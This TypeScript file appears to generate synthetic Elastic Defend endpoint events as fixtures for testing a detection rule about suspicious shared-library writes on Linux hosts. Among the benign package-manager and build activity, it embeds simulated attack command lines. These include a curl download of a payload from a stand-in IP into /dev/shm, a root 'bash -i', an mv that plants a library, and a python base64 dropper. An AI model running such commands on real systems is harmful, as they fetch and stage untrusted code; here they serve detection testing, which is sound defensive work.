// The example dataset of examples/ (issue 4 "Main job and examples"): four days of Linux endpoint events
// from five hosts in Elastic Defend's shape, mostly benign (package managers, nightly builds, dockerd,
// snapd), with a few suspicious shared-object writes on days 3 and 4. examples/README.md lists the alerts
// the seed rule must give and why; examples.test.ts checks the story with a plain reference filter.

import { Rng } from "./rng.js";
import {
  ROOT,
  defendTime,
  fileEvent,
  makeHost,
  makeProcess,
  networkEvent,
  processEvent,
  secondsTime,
  type EventTimes,
  type FileAction,
  type FileOpts,
  type GenHost,
  type GenProcess,
  type GenUser,
} from "./defend.js";

export const EXAMPLE_START = Date.parse("2024-06-10T00:00:00Z");
export const EXAMPLE_DAYS = 4;
const DAY = 86_400_000;
const HOUR = 3_600_000;
const MIN = 60_000;

export type ExampleStream = "file" | "process" | "network";

export interface ExampleEvent {
  readonly stream: ExampleStream;
  /** event.ingested in ms (the seed rule's timestamp_override). */
  readonly ingestedMs: number;
  readonly doc: Record<string, unknown>;
}

interface HostCtx {
  readonly host: GenHost;
  readonly systemd: GenProcess;
  readonly pool: GenProcess[];
  seq: number;
}

const ALICE: GenUser = { id: "1000", name: "alice" };
const JENKINS: GenUser = { id: "998", name: "jenkins" };
const WWW: GenUser = { id: "33", name: "www-data" };

/** Generate the whole dataset (≈ 12 k events), sorted by event.ingested, then by generation order. */
export function exampleEvents(seed = 20240610): ExampleEvent[] {
  const rng = new Rng(seed);
  const out: { e: ExampleEvent; n: number }[] = [];
  let counter = 0;
  const startSec = Math.floor(EXAMPLE_START / 1000);
  const hosts = new Map<string, HostCtx>();
  for (const [name, fam, ip] of [
    ["web01", "debian", "10.0.4.21"],
    ["web02", "debian", "10.0.4.22"],
    ["db01", "rhel", "10.0.5.10"],
    ["build01", "ubuntu", "10.0.6.40"],
    ["k8s-node01", "ubuntu", "10.0.7.11"],
  ] as const) {
    const host = makeHost(rng, name, fam, ip);
    const systemd = makeProcess(host, 1, "/usr/lib/systemd/systemd", "/sbin/init", ROOT, startSec - 3 * 86_400);
    const sshd = makeProcess(host, rng.range(600, 900), "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", ROOT, startSec - 3 * 86_400, systemd);
    const shell = makeProcess(host, rng.range(2000, 90_000), "/usr/bin/bash", "-bash", ALICE, startSec - 3600, sshd);
    const pool = [
      makeProcess(host, rng.range(2000, 90_000), "/usr/sbin/nginx", "nginx: worker process", WWW, startSec - 86_400, systemd),
      makeProcess(host, rng.range(2000, 90_000), "/usr/sbin/cron", "/usr/sbin/cron -f", ROOT, startSec - 86_400, systemd),
      makeProcess(host, rng.range(2000, 90_000), "/usr/bin/python3", "python3 /opt/monitor/agent.py", ROOT, startSec - 86_400, systemd),
      shell,
      makeProcess(host, rng.range(2000, 90_000), "/usr/bin/git", "git fetch origin", ALICE, startSec - 600, shell),
      makeProcess(host, rng.range(2000, 90_000), "/usr/bin/ls", "ls -la /var/log", ALICE, startSec - 600, shell),
      makeProcess(host, rng.range(2000, 90_000), "/usr/bin/ssh", "ssh deploy@10.0.4.30", ALICE, startSec - 600, shell),
    ];
    hosts.set(name, { host, systemd, pool, seq: rng.range(100_000, 2_000_000) });
  }
  const ctx = (name: string): HostCtx => {
    const c = hosts.get(name);
    if (c === undefined) throw new Error(`unknown example host ${name}`);
    return c;
  };

  const times = (c: HostCtx, ms: number): EventTimes => {
    c.seq += 1 + rng.int(30);
    const lag = rng.range(5_000, 40_000);
    return { timestamp: defendTime(ms, rng.int(10_000)), ingested: secondsTime(ms + lag), sequence: c.seq, id: `${c.host.id.slice(0, 10)}${rng.hex(14)}` };
  };
  const push = (stream: ExampleStream, doc: Record<string, unknown>): void => {
    const ev = doc.event as { ingested: string };
    out.push({ e: { stream, ingestedMs: Date.parse(ev.ingested), doc }, n: counter++ });
  };
  const file = (c: HostCtx, p: GenProcess, ms: number, action: FileAction, path: string, o: FileOpts = {}): void => push("file", fileEvent(p, times(c, ms), action, path, o));
  const exec = (c: HostCtx, p: GenProcess, ms: number): void => {
    push("process", processEvent(p, times(c, ms), "exec"));
    push("process", processEvent(p, times(c, ms + rng.range(200, 20_000)), "end"));
  };
  const child = (c: HostCtx, parent: GenProcess, exe: string, cmd: string, user: GenUser, ms: number): GenProcess =>
    makeProcess(c.host, rng.range(2000, 4_000_000), exe, cmd, user, Math.floor(ms / 1000), parent);

  for (let day = 0; day < EXAMPLE_DAYS; day++) {
    const d0 = EXAMPLE_START + day * DAY;
    // --- background noise: process, network and ordinary file activity on every host
    for (const c of hosts.values()) {
      for (let k = 0; k < 380; k++) {
        const ms = d0 + rng.int(DAY);
        const p = rng.pick(c.pool);
        switch (rng.int(6)) {
          case 0:
          case 1:
            exec(c, p, ms);
            break;
          case 2:
            push("network", networkEvent(p, times(c, ms), "connection_attempted", [c.host.ip[2], rng.range(32768, 60999)], [`93.184.216.${rng.int(256)}`, 443]));
            push("network", networkEvent(p, times(c, ms + rng.range(1000, 60_000)), "disconnect_received", [c.host.ip[2], rng.range(32768, 60999)], [`93.184.216.${rng.int(256)}`, 443]));
            break;
          case 3:
            push("network", networkEvent(c.pool[0], times(c, ms), "connection_accepted", [`198.51.100.${rng.int(256)}`, rng.range(32768, 60999)], [c.host.ip[2], 443]));
            break;
          case 4:
            file(c, p, ms, "creation", rng.pick(["/var/log/nginx/access.log.1", "/tmp/tmpk2j3.json", "/home/alice/.viminfo.tmp", "/var/cache/apt/pkgcache.bin", "/var/lib/monitor/state.db-journal"]), { size: rng.range(100, 80_000) });
            break;
          default:
            file(c, p, ms, "deletion", rng.pick(["/tmp/tmpk2j3.json", "/var/log/nginx/access.log.7.gz", "/home/alice/.viminfo.tmp"]));
        }
      }
    }

    // --- 06:25 unattended upgrades on the Debian/Ubuntu hosts: dpkg writes libraries (excluded process)
    for (const name of ["web01", "web02", "build01", "k8s-node01"]) {
      const c = ctx(name);
      const ms = d0 + 6 * HOUR + 25 * MIN + rng.int(10 * MIN);
      const dpkg = child(c, c.systemd, "/usr/bin/dpkg", "dpkg --status-fd 3 --configure --pending", ROOT, ms);
      exec(c, dpkg, ms);
      for (const lib of ["libssl.so.3", "libcrypto.so.3", "libsystemd.so.0.35.0"]) {
        const path = `/usr/lib/x86_64-linux-gnu/${lib}`;
        file(c, dpkg, ms + 1000, "creation", `${path}.dpkg-new`, { elf: true, size: rng.range(200_000, 4_000_000), entropy: 6.1 });
        file(c, dpkg, ms + 1500, "rename", path, { elf: true, size: rng.range(200_000, 4_000_000), originalPath: `${path}.dpkg-new` });
      }
      // the unversioned development symlink target is a .so written by dpkg: matches everything but the process
      file(c, dpkg, ms + 1800, "creation", "/usr/lib/x86_64-linux-gnu/libssl.so", { elf: true, size: 690_000 });
    }

    // --- 03:10 yum on the RHEL database host (excluded process), into /usr/lib64 and /usr/lib
    {
      const c = ctx("db01");
      const ms = d0 + 3 * HOUR + 10 * MIN + rng.int(5 * MIN);
      const yum = child(c, c.systemd, "/usr/bin/yum", "/usr/bin/python3 /usr/bin/yum -y update --security", ROOT, ms);
      const rpm = child(c, yum, "/usr/bin/rpm", "rpm -Uvh openssl-libs-3.0.7-27.el9.x86_64.rpm", ROOT, ms);
      exec(c, yum, ms);
      exec(c, rpm, ms + 2000);
      file(c, rpm, ms + 3000, "creation", "/usr/lib64/libssl.so.3.0.7", { elf: true, size: 700_000 });
      file(c, yum, ms + 3500, "creation", "/usr/lib/python3.9/site-packages/dnf/_hawkey.so", { elf: true, size: 300_000 });
      file(c, rpm, ms + 4000, "creation", "/usr/lib/rpm/plugins/libsyslog.so", { elf: true, size: 20_000 });
    }

    // --- 02:00 nightly build on build01: the linker installs the team's libraries into /usr/lib (benign,
    // recurring daily, so new only on the first night)
    {
      const c = ctx("build01");
      const ms = d0 + 2 * HOUR + rng.int(10 * MIN);
      const agent = child(c, c.systemd, "/usr/bin/java", "java -jar /opt/jenkins/agent.jar", JENKINS, ms - HOUR);
      const make = child(c, agent, "/usr/bin/make", "make -j4 install", JENKINS, ms);
      exec(c, make, ms);
      const cc1 = child(c, make, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet metrics.c -o /tmp/ccQ2x9.s", JENKINS, ms + 1000);
      exec(c, cc1, ms + 1000);
      file(c, cc1, ms + 1200, "creation", "/tmp/ccQ2x9.s", { size: 40_000 });
      const gcc = child(c, make, "/usr/bin/gcc", "gcc -shared -fPIC -o /usr/lib/x86_64-linux-gnu/libacme-plugin.so plugin.o", JENKINS, ms + 5000);
      exec(c, gcc, ms + 5000);
      file(c, gcc, ms + 6000, "creation", "/usr/lib/x86_64-linux-gnu/libacme-plugin.so", { elf: true, size: 48_000, entropy: 3.4 });
      const ld = child(c, gcc, "/usr/bin/ld", "/usr/bin/ld -shared -o /usr/lib/x86_64-linux-gnu/libacme-metrics.so metrics.o", JENKINS, ms + 8000);
      exec(c, ld, ms + 8000);
      file(c, ld, ms + 9000, "creation", "/usr/lib/x86_64-linux-gnu/libacme-metrics.so", { elf: true, size: 91_000, entropy: 3.6 });
      // object files and build trees outside /usr/lib never match
      file(c, gcc, ms + 9500, "creation", "/home/jenkins/ws/acme/build/libacme-metrics.so", { elf: true, size: 91_000 });
    }

    // --- dockerd unpacks image layers (excluded process; overlay paths are not /usr/lib/ anyway)
    {
      const c = ctx("k8s-node01");
      const dockerd = child(c, c.systemd, "/usr/bin/dockerd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", ROOT, EXAMPLE_START - DAY);
      for (let k = 0; k < 6; k++) {
        const ms = d0 + rng.int(DAY);
        const layer = rng.hex(24);
        file(c, dockerd, ms, "creation", `/var/lib/docker/overlay2/${layer}/diff/usr/lib/x86_64-linux-gnu/libpq.so.5.15`, { elf: true, size: 320_000 });
        file(c, dockerd, ms + 200, "creation", `/usr/lib/docker/cli-plugins/libcompose-${k}.so`, { elf: true, size: 100_000 });
      }
    }
  }

  // --- day 2, web02: snapd refreshes a snap (excluded process)
  {
    const c = ctx("web02");
    const ms = EXAMPLE_START + 1 * DAY + 11 * HOUR;
    const snapd = child(c, c.systemd, "/usr/lib/snapd/snapd", "/usr/lib/snapd/snapd", ROOT, ms - DAY);
    file(c, snapd, ms, "creation", "/usr/lib/snapd/libsnap-helper.so", { elf: true, size: 30_000 });
  }

  // --- day 3, web01 14:03: curl drops a library into /dev/shm, then mv plants another in /usr/lib (ALERTS 1, 2)
  {
    const c = ctx("web01");
    const ms = EXAMPLE_START + 2 * DAY + 14 * HOUR + 3 * MIN + 11_000;
    const www = c.pool[0];
    const sh = child(c, www, "/usr/bin/sh", "sh -c cd /dev/shm; curl -s -o /dev/shm/.cache/libutil.so http://203.0.113.7/u.bin", WWW, ms - 2000);
    exec(c, sh, ms - 2000);
    const curl = child(c, sh, "/usr/bin/curl", "curl -s -o /dev/shm/.cache/libutil.so http://203.0.113.7/u.bin", WWW, ms - 1000);
    exec(c, curl, ms - 1000);
    push("network", networkEvent(curl, times(c, ms - 900), "connection_attempted", [c.host.ip[2], 41722], ["203.0.113.7", 80]));
    file(c, curl, ms, "creation", "/dev/shm/.cache/libutil.so", { elf: true, size: 14_328, entropy: 2.914 });
    const rootShell = child(c, c.pool[3], "/usr/bin/bash", "bash -i", ROOT, ms + 30_000);
    const mv = child(c, rootShell, "/usr/bin/mv", "mv /root/build/libhook.so /usr/lib/x86_64-linux-gnu/libhook.so", ROOT, ms + 63_000);
    exec(c, mv, ms + 63_000);
    file(c, mv, ms + 63_200, "rename", "/usr/lib/x86_64-linux-gnu/libhook.so", { elf: true, size: 16_040, entropy: 3.02, originalPath: "/root/build/libhook.so" });
    // a container runtime's "exe" helper writes into /dev/shm: excluded by name, no alert
    file(c, child(c, c.systemd, "/proc/self/exe", "/proc/self/exe init", ROOT, ms), ms + 5 * MIN, "creation", "/dev/shm/runc-init.so", { elf: true, size: 8_000 });
  }

  // --- day 4, db01 03:17: python3 writes /dev/shm/libx.so (ALERT 3), writes it again 10 min later (same
  // pair: no second alert), and deletes it (deletions never match)
  {
    const c = ctx("db01");
    const ms = EXAMPLE_START + 3 * DAY + 3 * HOUR + 17 * MIN;
    const py = child(c, c.pool[2], "/usr/bin/python3", "python3 -c import base64,sys;open('/dev/shm/libx.so','wb').write(base64.b64decode(sys.argv[1]))", ROOT, ms - 1000);
    exec(c, py, ms - 1000);
    file(c, py, ms, "creation", "/dev/shm/libx.so", { elf: true, size: 20_480, entropy: 5.2 });
    file(c, py, ms + 10 * MIN, "creation", "/dev/shm/libx.so", { elf: true, size: 20_480, entropy: 5.2 });
    file(c, py, ms + 40 * MIN, "deletion", "/dev/shm/libx.so");
  }

  // --- day 4, build01 09:40: a new library joins the build (ALERT 4: new, though benign)
  {
    const c = ctx("build01");
    const ms = EXAMPLE_START + 3 * DAY + 9 * HOUR + 40 * MIN;
    const ld = child(c, c.pool[3], "/usr/bin/ld", "/usr/bin/ld -shared -o /usr/lib/x86_64-linux-gnu/libacme-exporter.so exporter.o", ALICE, ms);
    exec(c, ld, ms);
    file(c, ld, ms + 500, "creation", "/usr/lib/x86_64-linux-gnu/libacme-exporter.so", { elf: true, size: 77_000, entropy: 3.5 });
  }

  out.sort((a, b) => a.e.ingestedMs - b.e.ingestedMs || a.n - b.n);
  return out.map((x) => x.e);
}

/** The three Defend data streams the example files are named after (the `_index` of their events). */
/**
 * The alerts the seed rule must give on the examples, written from the scenario above rather than from a
 * run (host, process executable, file path, in alert order): the first nightly build's two writes, the
 * web01 intrusion's two, db01's python write (its rewrite 10 minutes later is a known term) and the new
 * exporter on day 4.
 */
export const EXAMPLE_PLANTED_ALERTS: readonly string[] = [
  "build01 /usr/bin/gcc /usr/lib/x86_64-linux-gnu/libacme-plugin.so",
  "build01 /usr/bin/ld /usr/lib/x86_64-linux-gnu/libacme-metrics.so",
  "web01 /usr/bin/curl /dev/shm/.cache/libutil.so",
  "web01 /usr/bin/mv /usr/lib/x86_64-linux-gnu/libhook.so",
  "db01 /usr/bin/python3 /dev/shm/libx.so",
  "build01 /usr/bin/ld /usr/lib/x86_64-linux-gnu/libacme-exporter.so",
];

/** An alert document as `host process file`, the form EXAMPLE_PLANTED_ALERTS is written in. */
export function plantedForm(alert: Record<string, unknown>): string {
  const { host, process, file } = alert as { host: { name: string }; process: { executable: string }; file: { path: string } };
  return `${host.name} ${process.executable} ${file.path}`;
}

export const EXAMPLE_FILES: Record<ExampleStream, string> = {
  file: "logs-endpoint.events.file-default.ndjson",
  process: "logs-endpoint.events.process-default.ndjson",
  network: "logs-endpoint.events.network-default.ndjson",
};
